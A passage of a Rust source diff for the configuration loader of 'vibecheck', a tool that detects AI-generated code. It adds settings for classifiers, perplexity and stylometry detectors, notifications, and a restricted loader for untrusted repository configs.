@@ -6,16 +6,36 @@
 //!
 //! # Production use
 //! [`IgnoreConfig`] is the production implementation.  It discovers and
-//! parses a `.vibecheck` TOML file (walking upward to the git root) and
-//! honours `.gitignore` by default.
+//! parses a `.vibecheck` TOML file (walking upward to the git root), reads
+//! a `.vibecheckignore` file beside it, and honours `.gitignore` by default.
+//! [`DEFAULT_EXCLUDES`] keep vendored dependencies out of every scan.
 //!
 //! # Testing / DI
 //! [`AllowAll`] and [`PatternIgnore`] are lightweight test doubles that
 //! implement the same trait with no filesystem access.
 
-use std::path::{Path, PathBuf};
+use std::path::{Component, Path, PathBuf};
 
 use ignore::gitignore::{Gitignore, GitignoreBuilder};
+use sha2::{Digest, Sha256};
+
+use crate::analyzers::text::decoration::DecorationAnalyzer;
+use crate::analyzers::text::doc_verbosity::{DocVerbosityAnalyzer, DEFAULT_EXPORTED_RATIO, DEFAULT_INTERNAL_RATIO};
+use crate::analyzers::text::filler_phrases::{FillerPhraseAnalyzer, DEFAULT_LOCALES};
+use crate::analyzers::text::hedging_phrases::{HedgingPhraseAnalyzer, DEFAULT_MIN_LINES};
+#[cfg(feature = "perplexity")]
+use crate::analyzers::text::perplexity::CompletionsLogprobs;
+use crate::analyzers::text::perplexity::{
+    LogprobSource, PerplexityAnalyzer, DEFAULT_HIGH, DEFAULT_LOW, DEFAULT_REQUESTS_PER_MINUTE,
+};
+use crate::analyzers::text::stylometry::{NgramModel, StylometryAnalyzer, DEFAULT_MARGIN};
+use crate::calibration::{Bands, Calibration, AI_ASSISTED_AT, AI_GENERATED_AT};
+use crate::capability::Capability;
+use crate::classifier::{self, Classifier, HeuristicClassifier};
+use crate::feedback::{Feedback, FEEDBACK_FILE};
+use crate::policy::{self, Policy, PolicySection};
+use crate::report::Severity;
+use crate::test_files::TestFiles;
 
 // ---------------------------------------------------------------------------
 // Trait
@@ -38,6 +58,13 @@ pub trait IgnoreRules: Send + Sync {
     fn is_ignored_dir(&self, path: &Path) -> bool {
         self.is_ignored(path)
     }
+
+    /// Return `true` if files carrying the `Code generated ... DO NOT EDIT.`
+    /// header (see [`crate::generated`]) should be scanned like any other.
+    /// Defaults to `false`: generated files are skipped.
+    fn include_generated(&self) -> bool {
+        false
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -52,6 +79,11 @@ impl IgnoreRules for AllowAll {
     fn is_ignored(&self, _path: &Path) -> bool {
         false
     }
+
+    #[inline]
+    fn include_generated(&self) -> bool {
+        true
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -91,9 +123,51 @@ struct ConfigFile {
     /// Optional `[heuristics]` table: signal-ID → weight override.
     #[serde(default)]
     heuristics: std::collections::HashMap<String, f64>,
+    /// Optional `[weights]` table: a file of tuned weight overrides.
+    #[serde(default)]
+    weights: WeightsSection,
+    /// Optional `[classifier]` table: scoring backend.
+    #[serde(default)]
+    classifier: ClassifierSection,
+    /// Optional `[calibration]` table: per-language probability calibration.
+    #[serde(default)]
+    calibration: CalibrationSection,
     /// Optional `[cache]` table: cache directory override.
     #[serde(default)]
     cache: CacheSection,
+    /// Optional `[filler]` table: conversational-filler phrase lists.
+    #[serde(default)]
+    filler: FillerSection,
+    /// Optional `[hedging]` table: hedging-phrase lexicon and threshold.
+    #[serde(default)]
+    hedging: HedgingSection,
+    /// Optional `[verbosity]` table: doc-to-code ratio thresholds.
+    #[serde(default)]
+    verbosity: VerbositySection,
+    /// Optional `[decoration]` table: symbols exempt from the Unicode-decoration detector.
+    #[serde(default)]
+    decoration: DecorationSection,
+    /// Optional `[providers.<family>]` tables: LLM APIs for `corpus generate`.
+    #[serde(default)]
+    providers: std::collections::HashMap<String, ProviderSettings>,
+    /// Optional `[perplexity]` table: the opt-in perplexity detector.
+    #[serde(default)]
+    perplexity: PerplexitySection,
+    /// Optional `[stylometry]` table: the opt-in comment n-gram detector.
+    #[serde(default)]
+    stylometry: StylometrySection,
+    /// Optional `[[notify]]` tables: where to post scan summaries.
+    #[serde(default)]
+    notify: Vec<NotifySettings>,
+    /// Optional `[policy]` table: profile, severity thresholds and gate defaults.
+    #[serde(default)]
+    policy: PolicySection,
+    /// Optional `[severity]` table: signal-ID → pinned severity.
+    #[serde(default)]
+    severity: std::collections::HashMap<String, Severity>,
+    /// Optional `[tests]` table: how test files are recognized and weighted.
+    #[serde(default)]
+    tests: TestsSection,
 }
 
 #[derive(serde::Deserialize, Default)]
@@ -102,6 +176,188 @@ struct CacheSection {
     dir: Option<String>,
 }
 
+#[derive(serde::Deserialize, Default)]
+struct WeightsSection {
+    /// A `[heuristics]` table in its own file, such as `vibecheck tune`
+    /// writes, relative to the config root.  `[heuristics]` entries in
+    /// `.vibecheck` take precedence over it.
+    file: Option<String>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct CalibrationSection {
+    /// Calibration written by `vibecheck tune --classifier calibration`,
+    /// relative to the config root.
+    file: Option<String>,
+    /// AI probability from which a file is AI-assisted (default 0.3).
+    assisted_at: Option<f64>,
+    /// AI probability from which a file is AI-generated (default 0.7).
+    generated_at: Option<f64>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct ClassifierSection {
+    /// `heuristic` (default), `logistic` or `onnx`; see [`crate::classifier`].
+    backend: Option<String>,
+    /// Model file for trained backends (a directory for `onnx`), relative to
+    /// the config root.
+    model: Option<String>,
+    /// Also score with the weighted sum and average it with `backend`,
+    /// reporting files on which the two split between human and AI.
+    #[serde(default)]
+    ensemble: bool,
+}
+
+/// The `[heuristics]` table of a weights file.
+#[derive(serde::Deserialize)]
+struct WeightsFile {
+    #[serde(default)]
+    heuristics: std::collections::HashMap<String, f64>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct FillerSection {
+    /// Built-in phrase locales to enable (default: `["en"]`).
+    locales: Option<Vec<String>>,
+    /// Extra phrases, additive on top of the locale lists.
+    #[serde(default)]
+    phrases: Vec<String>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct HedgingSection {
+    /// Extra phrases, additive on top of the built-in lexicon.
+    #[serde(default)]
+    phrases: Vec<String>,
+    /// Matching lines a file needs before the signal fires (default: 2).
+    min_lines: Option<usize>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct VerbositySection {
+    /// Mean doc-to-code ratio above which exported functions are flagged.
+    exported: Option<f64>,
+    /// Mean doc-to-code ratio above which internal helpers are flagged.
+    internal: Option<f64>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct DecorationSection {
+    /// Characters a codebase uses on purpose (`["→", "✓"]`).
+    #[serde(default)]
+    allow: Vec<String>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct PerplexitySection {
+    /// Query the endpoint at all (default: `false`).
+    #[serde(default)]
+    enabled: bool,
+    /// OpenAI-compatible API base URL (default: `https://api.openai.com/v1`).
+    base_url: Option<String>,
+    /// Completions model to score with (default: `davinci-002`).
+    model: Option<String>,
+    /// Environment variable holding the API key (default: `OPENAI_API_KEY`);
+    /// local servers may leave it unset.
+    api_key_env: Option<String>,
+    /// Request rate limit (default: 60).
+    requests_per_minute: Option<u32>,
+    /// Perplexity at or below which code reads as generated (default: 2.5).
+    low: Option<f64>,
+    /// Perplexity at or above which code reads as written by hand (default: 6.0).
+    high: Option<f64>,
+}
+
+#[derive(serde::Deserialize, Default)]
+struct StylometrySection {
+    /// N-gram model written by `vibecheck tune --classifier stylometry`,
+    /// relative to the config root.  The detector is off without one.
+    model: Option<String>,
+    /// Lead in nats per n-gram the best family needs over the runner-up
+    /// (default: 0.05).
+    margin: Option<f64>,
+}
+
+/// The loaded `[stylometry]` model.
+struct Stylometry {
+    model: std::sync::Arc<NgramModel>,
+    margin: f64,
+    /// SHA-256 of the model file, for cache keys.
+    digest: String,
+}
+
+impl PerplexitySection {
+    fn base_url(&self) -> &str {
+        self.base_url.as_deref().unwrap_or("https://api.openai.com/v1")
+    }
+
+    fn model(&self) -> &str {
+        self.model.as_deref().unwrap_or("davinci-002")
+    }
+}
+
+/// One `[providers.<family>]` table: which API `vibecheck corpus generate`
+/// calls to produce samples for that family.  Every field is optional; unset
+/// fields take the family's built-in default.
+///
+/// ```toml
+/// [providers.claude]
+/// model = "claude-sonnet-4-5"
+///
+/// # Any OpenAI-compatible endpoint can stand in for a family.
+/// [providers.copilot]
+/// api = "openai"
+/// base_url = "https://models.github.ai/inference"
+/// model = "openai/gpt-4.1"
+/// api_key_env = "GITHUB_TOKEN"
+/// ```
+#[derive(serde::Deserialize, Debug, Clone, Default)]
+pub struct ProviderSettings {
+    /// Wire protocol: `anthropic`, `openai` or `gemini`.
+    pub api: Option<String>,
+    /// Model ID sent with each request.
+    pub model: Option<String>,
+    /// Environment variable holding the API key.
+    pub api_key_env: Option<String>,
+    /// API base URL, for proxies and compatible endpoints.
+    pub base_url: Option<String>,
+}
+
+/// One `[[notify]]` table: a Slack incoming webhook or a generic JSON
+/// webhook that `vibecheck scan --notify` and `vibecheck bot` post a
+/// summary to when a scan crosses its thresholds.  With no threshold set,
+/// any file attributed to AI triggers it.
+///
+/// ```toml
+/// [[notify]]
+/// kind = "slack"
+/// url_env = "SLACK_WEBHOOK_URL"
+/// min_ai_files = 3
+/// report_url = "https://ci.example.com/vibecheck/{commit}.html"
+///
+/// [[notify]]
+/// url = "https://hooks.example.com/vibecheck"
+/// ai_probability_over = 0.9
+/// ```
+#[derive(serde::Deserialize, Debug, Clone, Default)]
+pub struct NotifySettings {
+    /// `slack` or `webhook` (default).
+    pub kind: Option<String>,
+    /// Endpoint to post to.
+    pub url: Option<String>,
+    /// Environment variable holding the endpoint, for URLs that are
+    /// secrets (Slack's are).  Takes precedence over `url`.
+    pub url_env: Option<String>,
+    /// Notify when at least this many files are attributed to AI.
+    pub min_ai_files: Option<usize>,
+    /// Notify when any file's AI probability is over this (0–1).
+    pub ai_probability_over: Option<f64>,
+    /// Link to the full report; `{repo}` and `{commit}` are substituted.
+    pub report_url: Option<String>,
+    /// Files listed in the summary, most AI-like first (default: 5).
+    pub top: Option<usize>,
+}
+
 #[derive(serde::Deserialize)]
 struct IgnoreSection {
     /// Additional gitignore-style patterns to exclude.
@@ -113,6 +369,12 @@ struct IgnoreSection {
     /// Respect the global gitignore (`~/.gitignore_global`, etc.) (default: `true`).
     #[serde(default = "bool_true")]
     use_global_gitignore: bool,
+    /// Exclude [`DEFAULT_EXCLUDES`] (default: `true`).
+    #[serde(default = "bool_true")]
+    use_default_excludes: bool,
+    /// Scan files with a generated-code header (default: `false`).
+    #[serde(default)]
+    include_generated: bool,
 }
 
 impl Default for IgnoreSection {
@@ -121,19 +383,167 @@ impl Default for IgnoreSection {
             patterns: vec![],
             use_gitignore: true,
             use_global_gitignore: true,
+            use_default_excludes: true,
+            include_generated: false,
         }
     }
 }
 
+#[derive(serde::Deserialize)]
+struct TestsSection {
+    /// Score test files with their own weights (default: `true`).
+    #[serde(default = "bool_true")]
+    separate: bool,
+    /// Gitignore-style globs for test files beyond the naming conventions.
+    #[serde(default)]
+    patterns: Vec<String>,
+    /// Signal-ID → weight for test files, over the built-in test weights.
+    #[serde(default)]
+    heuristics: std::collections::HashMap<String, f64>,
+}
+
+impl Default for TestsSection {
+    fn default() -> Self {
+        Self { separate: true, patterns: Vec::new(), heuristics: std::collections::HashMap::new() }
+    }
+}
+
+fn load_weights(path: &Path) -> anyhow::Result<std::collections::HashMap<String, f64>> {
+    let s = std::fs::read_to_string(path).map_err(|e| anyhow::anyhow!("failed to read {}: {e}", path.display()))?;
+    let f: WeightsFile = toml::from_str(&s).map_err(|e| anyhow::anyhow!("failed to parse {}: {e}", path.display()))?;
+    Ok(f.heuristics)
+}
+
+/// The configured backend and model path, after checking that the backend
+/// loads, and the model file's digest.  `None` for the default backend.
+fn resolve_classifier(
+    root: &Path,
+    section: ClassifierSection,
+) -> anyhow::Result<Option<(String, Option<PathBuf>, Option<String>)>> {
+    let backend = match section.backend {
+        Some(b) if b != "heuristic" => b,
+        _ => return Ok(None),
+    };
+    let model = section.model.map(|m| root.join(m));
+    classifier::from_name(&backend, model.as_deref())?;
+    let digest = match &model {
+        Some(model) => {
+            // An embedding model is a directory; its prototypes change with
+            // every re-tune, and hashing them avoids hashing the network.
+            let path = match model.is_dir() {
+                true => model.join(crate::embedding::PROTOTYPES_FILE),
+                false => model.clone(),
+            };
+            let bytes = std::fs::read(&path).map_err(|e| anyhow::anyhow!("failed to read {}: {e}", path.display()))?;
+            Some(Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect())
+        }
+        None => None,
+    };
+    Ok(Some((backend, model, digest)))
+}
+
+/// The `[calibration]` file, loaded with its SHA-256, or `None` when no
+/// file is set.
+fn resolve_calibration(root: &Path, section: CalibrationSection) -> anyhow::Result<Option<(Calibration, String)>> {
+    let Some(file) = section.file else {
+        return Ok(None);
+    };
+    let path = root.join(file);
+    let bytes = std::fs::read(&path).map_err(|e| anyhow::anyhow!("failed to read {}: {e}", path.display()))?;
+    let digest = Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
+    Ok(Some((Calibration::from_file(&path)?, digest)))
+}
+
+/// The `[stylometry]` model, loaded, or `None` when no model is set.
+fn resolve_stylometry(root: &Path, section: StylometrySection) -> anyhow::Result<Option<Stylometry>> {
+    let Some(model) = section.model else {
+        return Ok(None);
+    };
+    let path = root.join(model);
+    let bytes = std::fs::read(&path).map_err(|e| anyhow::anyhow!("failed to read {}: {e}", path.display()))?;
+    let digest = Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
+    let model = NgramModel::from_file(&path)?;
+    Ok(Some(Stylometry {
+        model: std::sync::Arc::new(model),
+        margin: section.margin.unwrap_or(DEFAULT_MARGIN),
+        digest,
+    }))
+}
+
+#[cfg(feature = "perplexity")]
+fn perplexity_source(base_url: &str, model: &str, api_key_env: &str) -> Option<std::sync::Arc<dyn LogprobSource>> {
+    let key = std::env::var(api_key_env).ok();
+    Some(std::sync::Arc::new(CompletionsLogprobs::new(base_url, model, key)))
+}
+
+#[cfg(not(feature = "perplexity"))]
+fn perplexity_source(_: &str, _: &str, _: &str) -> Option<std::sync::Arc<dyn LogprobSource>> {
+    None
+}
+
 fn bool_true() -> bool {
     true
 }
 
+/// Tables an untrusted config may not set: each names a network endpoint,
+/// an environment variable or a path outside the repository.
+const UNTRUSTED_TABLES: &[&str] = &["perplexity", "providers", "notify", "cache", "classifier"];
+
+/// File settings an untrusted config may only point inside its root.
+const UNTRUSTED_FILES: &[(&str, &str)] = &[("weights", "file"), ("calibration", "file"), ("stylometry", "model")];
+
+/// Remove what an untrusted config may not set from `table`, returning a
+/// warning for each removal.
+fn restrict_untrusted(root: &Path, table: &mut toml::Table) -> Vec<String> {
+    let mut dropped = Vec::new();
+    for name in UNTRUSTED_TABLES {
+        if table.remove(*name).is_some() {
+            dropped.push(format!("ignoring [{name}]: not allowed in a repository's own config"));
+        }
+    }
+    for (section, key) in UNTRUSTED_FILES {
+        let Some(toml::Value::Table(section_table)) = table.get_mut(*section) else {
+            continue;
+        };
+        let Some(toml::Value::String(file)) = section_table.get(*key) else {
+            continue;
+        };
+        if let Err(e) = confine(root, file) {
+            dropped.push(format!("ignoring [{section}] {key}: {e}"));
+            section_table.remove(*key);
+        }
+    }
+    dropped
+}
+
+/// Check that `file` names a path inside `root`: relative, without `..`,
+/// and not a symlink that leads out of it.
+fn confine(root: &Path, file: &str) -> anyhow::Result<()> {
+    let path = Path::new(file);
+    anyhow::ensure!(
+        path.components().all(|c| matches!(c, Component::Normal(_) | Component::CurDir)),
+        "{file} is not a relative path inside the repository"
+    );
+    if let (Ok(resolved), Ok(root)) = (root.join(path).canonicalize(), root.canonicalize()) {
+        anyhow::ensure!(resolved.starts_with(&root), "{file} leads outside the repository");
+    }
+    Ok(())
+}
+
 // ---------------------------------------------------------------------------
 // IgnoreConfig — production implementation
 // ---------------------------------------------------------------------------
 
-/// Full implementation: reads `.vibecheck` TOML + respects `.gitignore`.
+/// Directories excluded from every scan unless `[ignore] use_default_excludes
+/// = false`: vendored and third-party dependencies, and Go test inputs.
+/// They sit below every other rule, so a `!vendor/` pattern re-includes.
+pub const DEFAULT_EXCLUDES: &[&str] = &["vendor/", "third_party/", "testdata/"];
+
+/// Gitignore-syntax file read from the config root, beside `.vibecheck`.
+pub const IGNORE_FILE_NAME: &str = ".vibecheckignore";
+
+/// Full implementation: reads `.vibecheck` TOML and `.vibecheckignore`, and
+/// respects `.gitignore`.
 ///
 /// # Config file format (`.vibecheck`)
 ///
@@ -147,44 +557,159 @@ fn bool_true() -> bool {
 ///
 /// # Set to false to disable the global gitignore (default: true).
 /// use_global_gitignore = true
+///
+/// # Set to false to scan vendor/, third_party/ and testdata/ (default: true).
+/// use_default_excludes = true
 /// ```
 ///
+/// # Precedence
+/// Rules are applied in gitignore order, later ones winning:
+/// [`DEFAULT_EXCLUDES`], `.gitignore`, `.vibecheckignore`, `[ignore]
+/// patterns`, then globs added with [`IgnoreConfig::with_excludes`].
+///
 /// # Discovery
 /// [`IgnoreConfig::load`] walks upward from the given path looking for a
-/// `.vibecheck` file or a `.git` directory, using the first match as the
-/// config root.  Falls back to defaults when neither is found.
+/// `.vibecheck` or `.vibecheckignore` file or a `.git` directory, using the
+/// first match as the config root.  Falls back to defaults when none is
+/// found.
 pub struct IgnoreConfig {
     root: PathBuf,
     pub(crate) use_gitignore: bool,
     pub(crate) use_global_gitignore: bool,
-    /// Combined matcher: root `.gitignore` rules + extra `.vibecheck` patterns.
+    pub(crate) use_default_excludes: bool,
+    pub(crate) include_generated: bool,
+    /// `[ignore] patterns`, followed by any `--exclude` globs.
+    patterns: Vec<String>,
+    /// Combined matcher: defaults + root `.gitignore` + `.vibecheckignore` +
+    /// extra patterns.
     combined: Gitignore,
-    /// Extra patterns only (used by `is_extra_ignored` for walker secondary filter).
+    /// Everything but `.gitignore` (used by `is_extra_ignored` for walker
+    /// secondary filter).
     extra: Gitignore,
-    /// Signal-ID → weight overrides from the `[heuristics]` TOML table.
+    /// Signal-ID → weight overrides from the `[heuristics]` TOML table and
+    /// the `[weights] file` beneath it.
     heuristics: std::collections::HashMap<String, f64>,
+    /// Scoring backend from the `[classifier]` table, with its model file
+    /// resolved against the root.  `None` when unset or unusable.
+    classifier: Option<(String, Option<PathBuf>)>,
+    /// SHA-256 of the classifier model file, for cache keys.
+    classifier_digest: Option<String>,
+    /// The `[classifier]` backend that failed to load, if any: reports
+    /// scored by the fallback list [`Capability::Classifier`] as degraded.
+    classifier_unavailable: Option<String>,
+    /// `[classifier] ensemble`, when `classifier` is set.
+    ensemble: bool,
+    /// The `[calibration]` file's calibration and SHA-256, if one is set.
+    calibration: Option<(Calibration, String)>,
+    /// Authorship cutoffs from `[calibration]`.
+    bands: Bands,
     /// Optional cache directory override from `[cache] dir`.
     cache_dir: Option<PathBuf>,
+    /// Conversational-filler phrase lists from the `[filler]` table.
+    filler: FillerSection,
+    /// Hedging-phrase lexicon and threshold from the `[hedging]` table.
+    hedging: HedgingSection,
+    /// Doc-verbosity thresholds from the `[verbosity]` table.
+    verbosity: VerbositySection,
+    /// Allowed decorative symbols from the `[decoration]` table.
+    decoration: DecorationSection,
+    /// Family name → LLM provider from the `[providers.*]` tables.
+    providers: std::collections::HashMap<String, ProviderSettings>,
+    /// The perplexity detector's endpoint and thresholds.
+    perplexity: PerplexitySection,
+    /// The comment n-gram model from the `[stylometry]` table, if any.
+    stylometry: Option<Stylometry>,
+    /// Notification sinks from the `[[notify]]` tables.
+    notify: Vec<NotifySettings>,
+    /// The `[policy]` and `[severity]` tables over the chosen profile.
+    policy: Policy,
+    /// Test files and their weights from the `[tests]` table.
+    tests: TestFiles,
+    /// Settings that were ignored while loading, as `vibecheck: warning:`
+    /// messages without the prefix.
+    warnings: Vec<String>,
 }
 
 impl IgnoreConfig {
     /// Discover and load the nearest `.vibecheck` config, walking upward from
-    /// `start` to the git root.  Silently uses defaults if none is found or
-    /// the file cannot be parsed.
+    /// `start` to the git root.  Uses defaults if none is found, or with a
+    /// warning (see [`Self::warnings`]) if the file cannot be parsed.
     pub fn load(start: &Path) -> Self {
+        Self::load_with_profile(start, None)
+    }
+
+    /// [`Self::load`], under the policy `profile` (one of
+    /// [`policy::PROFILES`]) instead of the config's `[policy] profile`.
+    pub fn load_with_profile(start: &Path, profile: Option<&str>) -> Self {
         let root = find_config_root(start);
-        Self::load_from_root(root)
+        Self::load_from_root(root, profile)
     }
 
     /// Load from an explicit config file path.
     ///
     /// Returns an error if the file cannot be read or parsed.
     pub fn from_file(path: &Path) -> anyhow::Result<Self> {
+        Self::from_file_with_profile(path, None)
+    }
+
+    /// [`Self::from_file`], under the policy `profile` instead of the
+    /// file's `[policy] profile`.
+    pub fn from_file_with_profile(path: &Path, profile: Option<&str>) -> anyhow::Result<Self> {
         let s = std::fs::read_to_string(path)?;
         let f: ConfigFile = toml::from_str(&s)
             .map_err(|e| anyhow::anyhow!("failed to parse {}: {e}", path.display()))?;
         let root = path.parent().unwrap_or(path).to_path_buf();
-        Ok(Self::from_section(root, f.ignore, f.heuristics, f.cache))
+        Ok(Self::from_section(root, f, profile))
+    }
+
+    /// Load the `.vibecheck` at `root` of a repository whose config is not
+    /// trusted, such as a pull request's head or a cloned remote, or
+    /// defaults without one.  Unlike [`Self::load`], nothing above `root` is
+    /// consulted.
+    ///
+    /// Settings that reach beyond the repository are dropped with a warning:
+    /// `[perplexity]`, `[providers]` and `[[notify]]` (endpoints, and the
+    /// environment variables whose values are sent to them), `[cache]` and
+    /// `[classifier]`.  The `[weights]`, `[calibration]` and `[stylometry]`
+    /// files must be relative paths that stay inside `root`.
+    ///
+    /// Returns an error if the file exists but cannot be read or parsed.
+    pub fn load_untrusted(root: &Path) -> anyhow::Result<Self> {
+        Self::load_untrusted_with_profile(root, None)
+    }
+
+    /// [`Self::load_untrusted`], under the policy `profile` instead of the
+    /// repository's `[policy] profile`.
+    pub fn load_untrusted_with_profile(root: &Path, profile: Option<&str>) -> anyhow::Result<Self> {
+        let path = root.join(".vibecheck");
+        if !path.is_file() {
+            return Ok(Self::from_section(root.to_path_buf(), ConfigFile::default(), profile));
+        }
+        let s = std::fs::read_to_string(&path)?;
+        let mut table: toml::Table =
+            toml::from_str(&s).map_err(|e| anyhow::anyhow!("failed to parse {}: {e}", path.display()))?;
+        let dropped = restrict_untrusted(root, &mut table);
+        let f: ConfigFile = toml::Value::Table(table)
+            .try_into()
+            .map_err(|e| anyhow::anyhow!("failed to parse {}: {e}", path.display()))?;
+        let mut config = Self::from_section(root.to_path_buf(), f, profile);
+        config.warnings.splice(0..0, dropped);
+        Ok(config)
+    }
+
+    /// The project root the config was discovered at (or the directory of an
+    /// explicit config file).
+    pub fn root(&self) -> &Path {
+        &self.root
+    }
+
+    /// Add gitignore-syntax `globs` (e.g. from `--exclude`) on top of every
+    /// other rule, so they can also re-include with `!`.
+    pub fn with_excludes(mut self, globs: &[String]) -> Self {
+        self.patterns.extend(globs.iter().cloned());
+        self.combined = build_combined(&self.root, &self.patterns, self.use_gitignore, self.use_default_excludes);
+        self.extra = build_extra(&self.root, &self.patterns, self.use_default_excludes);
+        self
     }
 
     /// Build an [`ignore::WalkBuilder`] pre-configured with gitignore settings.
@@ -214,7 +739,8 @@ impl IgnoreConfig {
 
     // -- internals -----------------------------------------------------------
 
-    /// Return the signal-ID → weight override map from the `[heuristics]` table.
+    /// Return the signal-ID → weight override map from the `[heuristics]` table,
+    /// on top of any `[weights] file`.
     ///
     /// An empty map means "use all defaults".
     pub fn heuristics_map(&self) -> std::collections::HashMap<String, f64> {
@@ -226,40 +752,298 @@ impl IgnoreConfig {
         self.cache_dir.as_deref()
     }
 
-    fn load_from_root(root: PathBuf) -> Self {
+    /// The calibration loaded from the `[calibration]` file, or the fixture
+    /// calibration for every language, with the `[calibration]` authorship
+    /// cutoffs.
+    pub fn calibration(&self) -> Calibration {
+        let calibration = self.calibration.as_ref().map(|(c, _)| c.clone()).unwrap_or_default();
+        Calibration { bands: self.bands, ..calibration }
+    }
+
+    /// The scoring backend configured by the `[classifier]` table, or the
+    /// weighted-sum default.
+    pub fn classifier(&self) -> Box<dyn Classifier> {
+        self.classifier
+            .as_ref()
+            .and_then(|(backend, model)| classifier::from_name(backend, model.as_deref()).ok())
+            .unwrap_or_else(|| Box::new(HeuristicClassifier))
+    }
+
+    /// Capabilities the config asks for that failed to load, for
+    /// [`crate::pipeline::Pipeline::with_degraded`].
+    pub fn degraded(&self) -> Vec<Capability> {
+        match self.classifier_unavailable {
+            Some(_) => vec![Capability::Classifier],
+            None => Vec::new(),
+        }
+    }
+
+    /// The backends `[classifier] ensemble = true` scores alongside
+    /// [`Self::classifier`] (see [`crate::pipeline::Pipeline::with_ensemble`]):
+    /// the weighted sum, or nothing when the ensemble is off.
+    pub fn ensemble(&self) -> Vec<Box<dyn Classifier>> {
+        match self.ensemble {
+            true => vec![Box::new(HeuristicClassifier)],
+            false => Vec::new(),
+        }
+    }
+
+    /// The conversational-filler detector configured by the `[filler]` table.
+    pub fn filler_analyzer(&self) -> FillerPhraseAnalyzer {
+        match &self.filler.locales {
+            Some(locales) => FillerPhraseAnalyzer::new(locales, &self.filler.phrases),
+            None => FillerPhraseAnalyzer::new(DEFAULT_LOCALES, &self.filler.phrases),
+        }
+    }
+
+    /// The hedging-phrase detector configured by the `[hedging]` table.
+    pub fn hedging_analyzer(&self) -> HedgingPhraseAnalyzer {
+        HedgingPhraseAnalyzer::new(&self.hedging.phrases, self.hedging.min_lines.unwrap_or(DEFAULT_MIN_LINES))
+    }
+
+    /// The doc-verbosity detector configured by the `[verbosity]` table.
+    pub fn verbosity_analyzer(&self) -> DocVerbosityAnalyzer {
+        DocVerbosityAnalyzer::new(
+            self.verbosity.exported.unwrap_or(DEFAULT_EXPORTED_RATIO),
+            self.verbosity.internal.unwrap_or(DEFAULT_INTERNAL_RATIO),
+        )
+    }
+
+    /// The Unicode-decoration detector configured by the `[decoration]` table.
+    pub fn decoration_analyzer(&self) -> DecorationAnalyzer {
+        DecorationAnalyzer::new(&self.decoration.allow)
+    }
+
+    /// The perplexity detector configured by the `[perplexity]` table, or
+    /// `None` unless it is enabled.  Builds without the `perplexity` feature
+    /// have no HTTP client and always return `None`.
+    pub fn perplexity_analyzer(&self) -> Option<PerplexityAnalyzer> {
+        let p = &self.perplexity;
+        if !p.enabled {
+            return None;
+        }
+        let source = perplexity_source(p.base_url(), p.model(), p.api_key_env.as_deref().unwrap_or("OPENAI_API_KEY"))?;
+        let analyzer = PerplexityAnalyzer::new(
+            source,
+            p.low.unwrap_or(DEFAULT_LOW),
+            p.high.unwrap_or(DEFAULT_HIGH),
+            p.requests_per_minute.unwrap_or(DEFAULT_REQUESTS_PER_MINUTE),
+        );
+        Some(analyzer.with_cache_dir(crate::cache::Cache::resolve_path(self.cache_dir()).join("perplexity")))
+    }
+
+    /// The comment n-gram detector configured by the `[stylometry]` table,
+    /// or `None` without a model.
+    pub fn stylometry_analyzer(&self) -> Option<StylometryAnalyzer> {
+        let s = self.stylometry.as_ref()?;
+        Some(StylometryAnalyzer::new(s.model.clone(), s.margin))
+    }
+
+    /// The `[providers.<family>]` table for `family` (e.g. `"claude"`), if any.
+    pub fn provider(&self, family: &str) -> Option<&ProviderSettings> {
+        self.providers.get(family)
+    }
+
+    /// The `[[notify]]` tables, in file order.
+    pub fn notifications(&self) -> &[NotifySettings] {
+        &self.notify
+    }
+
+    /// The policy profile, severity grading and gate defaults in effect.
+    pub fn policy(&self) -> &Policy {
+        &self.policy
+    }
+
+    /// Which files are tests, and their weights on top of
+    /// [`Self::heuristics_map`].
+    pub fn test_files(&self) -> &TestFiles {
+        &self.tests
+    }
+
+    /// Settings that could not be used and were ignored while loading: a
+    /// weights or model file that fails to load, invalid cutoffs, an
+    /// unreadable review feedback file, or a `.vibecheck` that [`Self::load`]
+    /// could not parse.  Nothing is printed; callers report them.
+    pub fn warnings(&self) -> &[String] {
+        &self.warnings
+    }
+
+    /// Settings besides weight overrides that change analysis results, as
+    /// stable strings for cache keys.  Empty when everything is default.
+    pub fn analysis_settings(&self) -> Vec<String> {
+        let mut settings = Vec::new();
+        if let Some(locales) = &self.filler.locales {
+            settings.push(format!("filler.locales={}", locales.join(",")));
+        }
+        if !self.filler.phrases.is_empty() {
+            settings.push(format!("filler.phrases={}", self.filler.phrases.join("\u{1f}")));
+        }
+        if !self.hedging.phrases.is_empty() {
+            settings.push(format!("hedging.phrases={}", self.hedging.phrases.join("\u{1f}")));
+        }
+        if let Some(min_lines) = self.hedging.min_lines {
+            settings.push(format!("hedging.min_lines={min_lines}"));
+        }
+        if let Some(exported) = self.verbosity.exported {
+            settings.push(format!("verbosity.exported={exported}"));
+        }
+        if let Some(internal) = self.verbosity.internal {
+            settings.push(format!("verbosity.internal={internal}"));
+        }
+        if !self.decoration.allow.is_empty() {
+            settings.push(format!("decoration.allow={}", self.decoration.allow.concat()));
+        }
+        if self.perplexity.enabled {
+            let p = &self.perplexity;
+            settings.push(format!(
+                "perplexity={}@{},{},{}",
+                p.model(),
+                p.base_url(),
+                p.low.unwrap_or(DEFAULT_LOW),
+                p.high.unwrap_or(DEFAULT_HIGH)
+            ));
+        }
+        if let Some(s) = &self.stylometry {
+            settings.push(format!("stylometry={},{}", s.digest, s.margin));
+        }
+        if let Some((backend, _)) = &self.classifier {
+            settings.push(format!("classifier.backend={backend}"));
+        }
+        if let Some(digest) = &self.classifier_digest {
+            settings.push(format!("classifier.model={digest}"));
+        }
+        if let Some(backend) = &self.classifier_unavailable {
+            settings.push(format!("classifier.unavailable={backend}"));
+        }
+        if self.ensemble {
+            settings.push("classifier.ensemble=heuristic".to_string());
+        }
+        if let Some((_, digest)) = &self.calibration {
